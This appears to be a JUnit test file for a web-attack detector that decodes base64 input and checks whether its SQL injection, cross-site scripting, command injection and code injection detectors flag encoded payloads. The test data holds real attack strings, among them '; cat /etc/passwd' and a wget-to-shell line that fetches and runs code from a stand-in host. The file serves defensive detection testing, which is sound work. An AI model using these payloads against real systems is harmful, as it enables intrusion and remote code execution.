package dev.vigil.analyze;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.analyze.cmdi.CommandInjection;
import dev.vigil.analyze.code.CodeInjection;
import dev.vigil.analyze.sqli.SqlInjection;
import dev.vigil.analyze.xss.CrossSiteScripting;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Payloads written for this test from the classes' documentation, then base64-encoded here. */
class Base64TextTest {

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void decodesPrintableTextInEverySpelling() {
        assertThat(Base64Text.decode(b64("Hello, World"))).isEqualTo("hello, world");
        assertThat(Base64Text.decode(b64("a/b?c>d").replace("=", "%3D"))).isEqualTo("a/b?c>d");
        String urlSafe = Base64.getUrlEncoder().withoutPadding().encodeToString("?>?>?>?>".getBytes(StandardCharsets.UTF_8));
        assertThat(Base64Text.decode(urlSafe)).isEqualTo("?>?>?>?>");
        assertThat(Base64Text.decode(b64("<<>>??<<").replace("+", "%2B").replace("/", "%2f"))).isEqualTo("<<>>??<<");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "", "short", "zm9vymfyymf6", "ahr0chm6ly9lehg=",   // no upper-case letter: the case-folded form rules read
        "Zm9v YmFy", "Zm9v.YmFy.YmF6", "Zm9vYmFy%20YmF6", // not one token (a JWT has dots)
        "Zm9=vYmFyYmF6",                                  // '=' inside
        "AAEAAAD/////AQAAAAAAAAAMAgAAAA",                 // binary
        "n4bQgYhMfWWaL-qgxVrQFaO_TxsrC4Is0V1sFbDwCgg",     // a random 32-byte key
        "ProductCategoryBooks",                           // a word in camel case that decodes to bytes
        "AAAAAAAAAAAAAAAAQUJD",                           // mostly NUL bytes: binary, not text
    })
    void turnsAwayTokensAndBinary(String v) {
        assertThat(Base64Text.decode(v)).as(v).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"1' OR '1'='1' -- ", "-1 UNION SELECT username, password FROM users", "1;WAITFOR DELAY '0:0:5'--"})
    void sqlInBase64(String payload) {
        assertThat(SqlInjection.detect(b64(payload))).as(payload).hasValueSatisfying(r -> assertThat(r).endsWith("(base64)"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"<img src=x onerror=alert(1)>", "\"><svg/onload=confirm(1)>", "javascript:alert(document.cookie)"})
    void markupInBase64(String payload) {
        assertThat(CrossSiteScripting.detect(b64(payload))).as(payload).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"; cat /etc/passwd", "127.0.0.1 && whoami", "$(wget -qO- http://x.example/a|sh)"})
    void commandsInBase64(String payload) {
        assertThat(CommandInjection.detect(b64(payload), null)).as(payload).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{7*7}}", "O:8:\"stdClass\":0:{}", "<%= 7*7 %>", "{\"__proto__\":{\"admin\":true}}",
        "O:10:\"App\\Logger\":1:{s:7:\"\u0000*\u0000file\";s:9:\"/tmp/x.php\";}"})
    void codeInBase64(String payload) {
        assertThat(CodeInjection.detect(b64(payload))).as(payload).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "{\"id\":1234,\"sort\":\"created_at\"}", "https://shop.example.com/cart?item=42&qty=2", "Quarterly report (final).pdf",
        "user@example.com", "O'Reilly Media", "select a plan", "Tom & Jerry", "{\"page\":2,\"q\":\"red shoes\"}",
        "2024-05-01T10:00:00Z|2024-05-31T23:59:59Z", "lang=en-GB; theme=dark", "Hello {name}, welcome",
    })
    void ordinaryEncodedValuesStayQuiet(String text) {
        String v = b64(text);
        assertThat(SqlInjection.detect(v)).as(text).isEmpty();
        assertThat(CrossSiteScripting.detect(v)).as(text).isEmpty();
        assertThat(CommandInjection.detect(v, null)).as(text).isEmpty();
        assertThat(CodeInjection.detect(v)).as(text).isEmpty();
    }

    @Test
    void staysLinearOnHostileInput() {
        String hostile = "QUFB".repeat(2_000) + "%2B".repeat(500);
        long t = System.nanoTime();
        for (int i = 0; i < 50; i++) {
            Base64Text.decode(hostile);
        }
        assertThat(System.nanoTime() - t).isLessThan(2_000_000_000L);
    }
}
